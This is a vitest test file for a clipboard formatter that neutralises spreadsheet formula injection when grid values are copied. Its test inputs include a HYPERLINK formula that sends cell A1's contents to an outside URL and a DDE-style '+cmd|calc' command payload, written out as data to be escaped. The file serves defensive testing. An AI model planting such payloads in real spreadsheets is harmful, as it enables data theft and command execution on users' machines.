import { describe, expect, it } from 'vitest';
import { clipboardCell } from './format';

describe('clipboardCell', () => {
  it.each([
    ['plain', 'plain'],
    ['=HYPERLINK("http://x/?"&A1)', `"'=HYPERLINK(""http://x/?""&A1)"`],
    ['+cmd|calc', "'+cmd|calc"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['-12.5', '-12.5'],
    ['+3', '+3'],
    ['line one\n=1+1', '"line one\n=1+1"'],
    ['a\tb', '"a\tb"'],
    ['say "hi"', '"say ""hi"""'],
  ])('%j is copied as %j', (value, want) => {
    expect(clipboardCell(value)).toBe(want);
  });

  it('leaves numbers, NULL and nested values as the grid shows them', () => {
    expect(clipboardCell(-3)).toBe('-3');
    expect(clipboardCell(null)).toBe('NULL');
    expect(clipboardCell({ a: '=x' })).toBe('"{""a"":""=x""}"');
  });
});
